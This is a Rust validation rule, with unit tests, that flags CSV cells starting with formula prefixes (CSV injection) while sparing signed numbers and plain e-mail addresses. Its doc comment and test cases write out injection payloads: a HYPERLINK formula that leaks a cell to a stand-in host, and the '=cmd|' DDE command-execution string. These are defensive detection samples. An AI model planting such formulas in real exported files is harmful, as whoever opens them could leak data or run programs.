//! What it checks: values that a spreadsheet would read as a formula when it opens the file: cells
//! starting with `=`, `+`, `-`, `@`, a tab or a carriage return (CSV injection, OWASP's list).
//! Why: whoever opens the file in Excel (the administrator today, a colleague later) runs the
//! formula: `=HYPERLINK(...)` leaks data, `=cmd|...` used to start programs. Even harmless values
//! are damaged: Excel turns the phone number `+81-90-1234-5678` into the number -6921.
//! Not flagged, because a spreadsheet reads them as the same text or number: the prefix alone
//! (`-` as "none"), a signed number (`-5`, `+1.5`, `-1,000`), and an e-mail address that starts
//! with `-` or `+` (`-info@example.com`, only letters, digits and `._+-` before the `@`). The raw
//! cell is tested, so ` =1` (a space first) is text and not flagged. Only cells of the profile's
//! columns are checked. Result CSVs written by the library neutralise every such cell with a
//! leading `'` (see `report::result_csv`).
//! Example: `=HYPERLINK("http://x.example/?"&A1)` → `formula-prefix` (warning).

use crate::report::{Code, Kind};

/// Codes this rule emits.
pub(crate) const CODES: &[Code] = &[Code::FormulaPrefix];

/// The characters that start a formula in Excel, LibreOffice and Google Sheets.
pub(crate) const PREFIXES: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Reports a raw (untrimmed) cell value that a spreadsheet would run as a formula.
pub(crate) fn check(raw: &str, out: &mut Vec<Kind>) {
    // Every prefix is ASCII: the first byte decides.
    let first = match raw.as_bytes().first() {
        Some(&b) if b.is_ascii() && PREFIXES.contains(&char::from(b)) => char::from(b),
        _ => return,
    };
    let rest = &raw[first.len_utf8()..];
    if rest.is_empty() {
        return;
    }
    if matches!(first, '+' | '-') && (is_number(rest) || is_plain_email(raw)) {
        return;
    }
    out.push(Kind::FormulaPrefix { first });
}

/// Digits with optional `,` group separators and one decimal part: `1`, `1,000`, `1.5`.
fn is_number(s: &str) -> bool {
    let (int, frac) = match s.split_once('.') {
        Some((i, f)) => (i, Some(f)),
        None => (s, None),
    };
    let int_ok = int.starts_with(|c: char| c.is_ascii_digit())
        && int.bytes().all(|b| b.is_ascii_digit() || b == b',')
        && !int.ends_with(',');
    let frac_ok = match frac {
        None => true,
        Some(f) => !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()),
    };
    int_ok && frac_ok
}

/// `local@domain.tld` with only letters, digits and `._+-` in the local part and letters, digits,
/// `.` and `-` in the domain: an address, and nothing a formula could call.
fn is_plain_email(s: &str) -> bool {
    let Some((local, domain)) = s.split_once('@') else {
        return false;
    };
    let local_ok = !local.is_empty()
        && local
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'+' | b'-'));
    let domain_ok = domain.contains('.')
        && !domain.starts_with('.')
        && !domain.ends_with('.')
        && domain
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'));
    local_ok && domain_ok
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(raw: &str) -> Option<char> {
        let mut out = Vec::new();
        check(raw, &mut out);
        match out.as_slice() {
            [] => None,
            [Kind::FormulaPrefix { first }] => Some(*first),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn flags_formulas_and_values_excel_would_compute() {
        for (raw, first) in [
            ("=1+1", '='),
            ("=HYPERLINK(\"http://x.example/\",\"click\")", '='),
            ("=cmd|' /C calc'!A0", '='),
            ("@SUM(1+1)", '@'),
            ("+81-90-1234-5678", '+'),
            ("-2+3", '-'),
            ("-abc", '-'),
            ("\t=1", '\t'),
            ("\rtext", '\r'),
            ("=info@example.com", '='),
            ("-1e5", '-'),
            ("--1", '-'),
            ("-x@y", '-'),
        ] {
            assert_eq!(found(raw), Some(first), "{raw:?}");
        }
    }

    #[test]
    fn leaves_text_numbers_and_addresses_alone() {
        for raw in [
            "",
            "-",
            "+",
            "=",
            "@",
            "-5",
            "+1.5",
            "-1,000",
            "-0.25",
            "-info@example.com",
            "+tag@example.co.jp",
            "taro@example.com",
            " =1",
            "山田",
            "a=b",
            "＝1",
        ] {
            assert_eq!(found(raw), None, "{raw:?}");
        }
    }
}
